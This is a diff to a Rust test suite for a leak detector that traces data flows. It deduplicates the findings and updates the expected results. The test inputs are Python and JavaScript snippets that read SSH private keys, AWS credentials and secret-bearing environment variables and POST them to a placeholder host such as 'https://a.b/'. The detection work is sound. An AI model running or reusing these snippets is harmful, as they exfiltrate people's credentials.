@@ -4,9 +4,11 @@ use crate::flow::{Source, leaks};
 /// `LABEL CLASS TARGET` of what leaves.
 fn found(path: &str, text: &str) -> Vec<String> {
     let flows = leaks(&[Source { path, text }]).flows.into_iter().filter(|flow| flow.label.is_some());
-    flows
+    let mut shown: Vec<String> = flows
         .map(|flow| format!("{} {} {}", flow.label.unwrap_or_default(), flow.kind, flow.target.unwrap_or_default()))
-        .collect()
+        .collect();
+    shown.dedup();
+    shown
 }
 
 #[test]
@@ -21,11 +23,11 @@ fn python() {
         ),
         (
             "def read(p):\n    return open(os.path.expanduser(p)).read()\nkeys = [read(p) for p in ['~/.ssh/id_rsa', '~/.aws/credentials']]\nrequests.post(URL, data={'k': keys})",
-            &["private send ", "private send "],
+            &["private send "],
         ),
         (
             "body = {}\nfor name in ('id_rsa', 'config'):\n    f = pathlib.Path.home() / '.ssh' / name\n    body[name] = f.read_text()\nrequests.post('https://a.b/' + x, json=body)",
-            &["private send https://a.b/", "private send https://a.b/"],
+            &["private send https://a.b/"],
         ),
         (
             "subprocess.run(['tar', 'czf', '/tmp/x.tgz', os.path.expanduser('~/.aws/credentials')])\nrequests.post('https://a.b/', files={'f': open('/tmp/x.tgz', 'rb')})",
@@ -61,7 +63,7 @@ fn scripts() {
         ),
         (
             "const req = https.request({ hostname: 'a.b', method: 'POST' });\nreq.write(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));\nreq.end();",
-            &["private send ", "private send "],
+            &["private send "],
         ),
         (
             "const out = {};\nfor (const [k, v] of Object.entries(process.env)) { if (/KEY/.test(k)) out[k] = v; }\nawait axios.post('https://a.b', out);",
